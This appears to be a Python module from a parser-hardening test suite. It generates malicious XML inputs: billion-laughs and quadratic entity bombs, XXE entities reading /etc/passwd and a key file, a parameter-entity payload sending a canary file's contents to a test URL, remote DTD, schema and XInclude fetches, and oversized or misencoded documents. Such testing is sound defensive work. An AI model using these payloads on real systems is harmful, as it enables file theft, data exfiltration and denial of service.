"""XML that its readers were undone by elsewhere: entities, depth, width, encodings, and addresses to fetch from."""

import gzip
import random
from functools import cache
from pathlib import Path

from .attacks import EITHER, Place, attack

_CORPUS = Path(__file__).parent / "corpus"
BEGINS = '<?xml version="1.0" encoding="UTF-8"?>\n'


@cache
def _census() -> str:
    """A good one, without its declaration."""
    text = (_CORPUS / "census_1.xml").read_text(encoding="utf-8")
    return text[text.index("?>") + 2 :].lstrip() if text.startswith("<?xml") else text


def _root_with(attributes: str = "", inside: str = "") -> str:
    """The census, its root with these attributes, and this as the first thing in it."""
    text = _census()
    ends = text.index(">")
    return text[:ends] + attributes + ">" + inside + text[ends + 1 :]


def _declaring(doctype: str, use: str = "") -> str:
    root = _census()[1:].split(">")[0].split()[0]
    return f"{BEGINS}<!DOCTYPE {root} [{doctype}]>\n{_root_with(inside=use)}"


@attack("xml: billion laughs")
def _laughs(place: Place, chance: random.Random):
    width, depth = chance.choice(((10, 10), (10, 30), (100, 5)))
    said = "".join(f'<!ENTITY l{at + 1} "{f"&l{at};" * width}">' for at in range(depth))
    place.write(".xml", _declaring(f'<!ENTITY l0 "lol">{said}', f"<a>&l{depth};</a>"))


@attack("xml: quadratic blow-up")
def _quadratic(place: Place, chance: random.Random):
    size = chance.choice((50_000, 500_000))
    place.write(".xml", _declaring(f'<!ENTITY a "{"a" * size}">', f"<b>{'&a;' * size}</b>"))


@attack("xml: an entity of another file")
def _entity_of_file(place: Place, chance: random.Random):
    path = chance.choice((place.canary, Path("/etc/passwd"), Path("/dev/zero"), place.home / "pseudonym.key"))
    kind = chance.choice(("SYSTEM", 'PUBLIC "-//A//B//EN"'))
    place.write(".xml", _declaring(f'<!ENTITY x {kind} "file://{path}">', "<Collection>&x;</Collection>"))


@attack("xml: an entity to fetch")
def _entity_of_net(place: Place, chance: random.Random):
    place.write(".xml", _declaring(f'<!ENTITY x SYSTEM "{place.url}/{chance.random()}">', "<a>&x;</a>"))


@attack("xml: parameter entities")
def _parameters(place: Place, chance: random.Random):
    fetched = f'<!ENTITY % all SYSTEM "{place.url}/all.dtd">%all;'
    eaten = f'<!ENTITY % f SYSTEM "file://{place.canary}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{place.url}/?%f;\'>">%e;%s;'
    place.write(".xml", _declaring(chance.choice((fetched, eaten))))


@attack("xml: a document type")
def _doctype(place: Place, chance: random.Random):
    how = chance.choice(
        (f'SYSTEM "{place.url}/a.dtd"', f'PUBLIC "-//A" "{place.url}/a.dtd"', f'SYSTEM "file://{place.canary}"', "")
    )
    place.write(".xml", f"{BEGINS}<!DOCTYPE Message {how}>\n{_census()}")


@attack("xml: a million elements deep")
def _deep(place: Place, chance: random.Random):
    depth, names = chance.choice((70, 10_000, 1_000_000)), chance.choice((1, 7))
    opened = "".join(f"<a{at % names}>" for at in range(depth))
    place.write(".xml", BEGINS + _root_with(inside=opened))


@attack("xml: elements with nothing in them")
def _elements_of_nothing(place: Place, chance: random.Random):
    one = chance.choice((b"<a/>", b"<a></a>", b"<a>1</a>"))
    start, end = _root_with(inside="|").encode().split(b"|")
    place.write(".xml.gz", gzip.compress(b"".join([BEGINS.encode(), start, one * (96_000_000 // len(one)), end]), 6))


@attack("xml: an attribute of 100 MB", is_heavy=True)
def _long_attribute(place: Place, chance: random.Random):
    size = chance.choice((2, 30, 100))
    start, end = _root_with(inside="<a b='|'/>").encode().split(b"|")
    place.write(".xml", [BEGINS.encode(), start, *[b"x" * 1_000_000] * size, end])


@attack("xml: a million attributes")
def _many_attributes(place: Place, chance: random.Random):
    many = chance.choice((300_000, 1_000_000))
    place.write(".xml", BEGINS + _root_with("".join(f' a{at}=""' for at in range(many))))


@attack("xml: a tag, text or remark without end", is_heavy=True)
def _endless(place: Place, chance: random.Random):
    begins = chance.choice(("<!-- ", "<?a ", "<![CDATA[", "<", "<a b='", "text"))
    place.write(".xml", [(BEGINS + "<Message>" + begins).encode(), *[b"y" * 1_000_000] * chance.choice((3, 60, 200))])


@attack("xml: instructions to programs", EITHER)
def _instructions(place: Place, chance: random.Random):
    said = f'<?xml-stylesheet type="text/xsl" href="{place.url}/a.xsl"?>' * chance.choice((1, 1_000, 300_000))
    place.write(".xml", BEGINS + said + _census())


@attack("xml: another encoding than it says")
def _encodings(place: Place, chance: random.Random):
    said, is_in = chance.choice(
        (("UTF-7", "utf-7"), ("UTF-8", "utf-16"), ("UTF-16", "ascii"), ("UTF-32", "utf-32"), ("UTF-8", "utf-16-le"),
         ("IBM037", "cp037"), ("idna", "ascii"), ("zlib", "ascii"), ("unicode_escape", "ascii"), ("UCS-4", "utf-32-be"))
    )  # fmt: skip
    text = f'<?xml version="1.0" encoding="{said}"?>\n' + _census().replace("</", "\u2603</", 1)
    place.write(".xml", text.encode(is_in, "xmlcharrefreplace" if is_in == "ascii" else "replace"))


@attack("xml: bytes that are no letter")
def _overlong(place: Place, chance: random.Random):
    bad = chance.choice(
        (b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x00", b"\xff\xfe", b"\xe2\x80", b"\x1b[2J")
    )
    place.write(".xml", (BEGINS + _census()).encode().replace(b"</", bad + b"</", 1))


@attack("xml: other files included", EITHER)
def _included(place: Place, chance: random.Random):
    href = chance.choice((f"file://{place.canary}", f"{place.url}/included", "/etc/passwd"))
    one = f'<xi:include href="{href}" parse="{chance.choice(("xml", "text"))}"><xi:fallback/></xi:include>'
    place.write(".xml", BEGINS + _root_with(' xmlns:xi="http://www.w3.org/2001/XInclude"', one))


@attack("xml: namespaces by the thousand", EITHER)
def _namespaces(place: Place, chance: random.Random):
    many = "".join(f' xmlns:n{at}="u:{at}"' for at in range(chance.choice((1_000, 50_000))))
    inside = chance.choice(("", "".join(f"<n{at}:Pupil xmlns:n{at}='u'/>" for at in range(20_000))))
    place.write(".xml", BEGINS + _root_with(many, inside))


@attack("xml: schemas to fetch", EITHER)
def _schemas(place: Place, chance: random.Random):
    said = f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {place.url}/a.xsd"'
    place.write(".xml", BEGINS + _root_with(said + f' xsi:noNamespaceSchemaLocation="{place.url}/{chance.random()}"'))


@attack("xml: kinds of element by the million")
def _kinds(place: Place, chance: random.Random):
    many = chance.choice((11_000, 300_000))
    place.write(".xml", BEGINS + _root_with(inside="".join(f"<k{at}/>" for at in range(many))))


@attack("xml: names as long as a book")
def _long_names(place: Place, chance: random.Random):
    long = "n" * chance.choice((2_000_000, 5_000_000))
    place.write(".xml", BEGINS + _root_with(inside=f"<{long}></{long}>"))
